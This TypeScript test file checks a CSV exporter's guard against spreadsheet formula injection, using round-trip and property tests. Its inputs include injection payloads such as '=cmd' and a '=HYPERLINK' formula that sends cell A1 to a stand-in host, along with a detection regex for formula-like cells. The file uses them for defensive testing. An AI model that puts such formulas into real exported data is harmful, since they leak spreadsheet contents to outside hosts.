/** Tests that an independent reader finds the exported values in a CSV, and that no cell begins like a formula. */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { guardFormulas } from '../../src/contract/formula-guard.ts';
import { csvEncoder, type CsvForm } from '../../src/export/csv.ts';
import { openSqliteStore } from '../../src/store/sqlite/sqlite-store.ts';
import { csvTexts, parseCsv } from '../support/csv.ts';
import { exportTest, question } from '../support/exported.ts';
import { importLines } from '../support/filled-store.ts';
import { often } from '../support/often.ts';

const folder = mkdtempSync(join(tmpdir(), 'rollcall-'));
afterAll(() => rmSync(folder, { recursive: true }));

const columns = [
  { name: 'text', type: 'string' },
  { name: 'number', type: 'double' },
  { name: 'other', type: 'string' },
] as const;
const forms: readonly CsvForm[] = [
  { delimiter: ',', decimal: '.' },
  { delimiter: ';', decimal: ',' },
  { delimiter: '\t', decimal: '.' },
];
const written = (form: CsvForm, rows: readonly (readonly (string | number)[])[]) =>
  Buffer.from(csvEncoder(form)(columns, undefined).encode(rows) as Uint8Array).toString(); // this encoder answers at once

/** A line that a program which knows no quotes, or trims what it reads, takes for a formula. */
const formulaLine = /^["\s\p{Cc}\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

describe('CSV', () => {
  it.each(forms)('is read back by another reader as what was exported: %j', (form) => {
    const row = fc.tuple(csvTexts, fc.double({ noNaN: true, noDefaultInfinity: true }), csvTexts);
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 6 }), (rows) => {
        const expected = rows.map(([first, number, last]) => [
          guardFormulas(first),
          String(number).replace('.', form.decimal),
          guardFormulas(last),
        ]);
        expect(parseCsv(written(form, rows), form.delimiter)).toEqual(expected);
      }),
      { numRuns: often(400, 2000) },
    );
  });

  it.each(forms)('has no line that begins like a formula, with any line break: %j', (form) => {
    fc.assert(
      fc.property(fc.array(csvTexts, { minLength: 1, maxLength: 6 }), (texts) => {
        const text = written(
          form,
          texts.map((one) => [one, 5, one]),
        );
        for (const line of text.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/))
          expect(line).not.toMatch(formulaLine);
        for (const [first = ''] of parseCsv(text, form.delimiter)) {
          expect(first).not.toMatch(/^[\t\r]/);
          expect(first).not.toMatch(formulaLine);
        }
      }),
      { numRuns: often(400, 2000) },
    );
  });

  it('adds apostrophes to a text and nothing else, and to a number nothing at all', () => {
    fc.assert(
      fc.property(csvTexts, (text) => {
        expect(guardFormulas(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
        if (!/[\t\r=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(text)) expect(guardFormulas(text)).toBe(text);
      }),
    );
    expect(written(forms[0]!, [['a-b', -1.5, 'Bad Homburg']])).toBe('a-b,-1.5,Bad Homburg\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    [' \u00a0+49', "' \u00a0+49"],
    ['\ufeff\uff1d1', "'\ufeff\uff1d1"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['\n=1', "\n'=1"],
    ['\r\n@x', "'\r\n'@x"],
    ['a\r-1\u2028=2', "a\r'-1\u2028'=2"],
  ])('guards %j', (text, guarded) => expect(guardFormulas(text)).toBe(guarded));

  it('takes time in proportion to a text of what is trimmed, and nothing of it is a formula', () => {
    const seconds = (count: number) => {
      const text = ' \n\u200b'.repeat(count);
      const begun = process.threadCpuUsage();
      expect(guardFormulas(text)).toBe(text);
      return process.threadCpuUsage(begun).user / 1_000_000;
    };
    expect(seconds(300_000)).toBeLessThan(5);
  });

  it('of calls has one record a participant, with the names that were received', async () => {
    const names = [
      'Guest\n=HYPERLINK("https://x/?"&A1,"open")',
      '\n=1+1',
      'x\r=2+2',
      '=cmd',
      'a"b',
      '\u2028+1',
    ];
    const people = names.map((displayName, i) => ({
      id: `p${i}`,
      identity: { guest: { id: `g${i}`, displayName } },
    }));
    await using store = openSqliteStore(':memory:');
    const call = { id: 'c', version: 1, startDateTime: '2026-10-01T00:00:00Z', participants_v2: people };
    await importLines(store, 'tenant', [JSON.stringify(call)]);
    const path = join(folder, 'people.csv');
    await exportTest(
      store,
      question('tenant', { what: 'participants', format: 'csv', columns: ['displayName', 'id'] }),
      path,
    );
    expect(parseCsv(readFileSync(path, 'utf8').slice(1), ',')).toEqual([
      ['displayName', 'id'],
      ...names.map((name, i) => [guardFormulas(name), `p${i}`]),
    ]);
  });
});
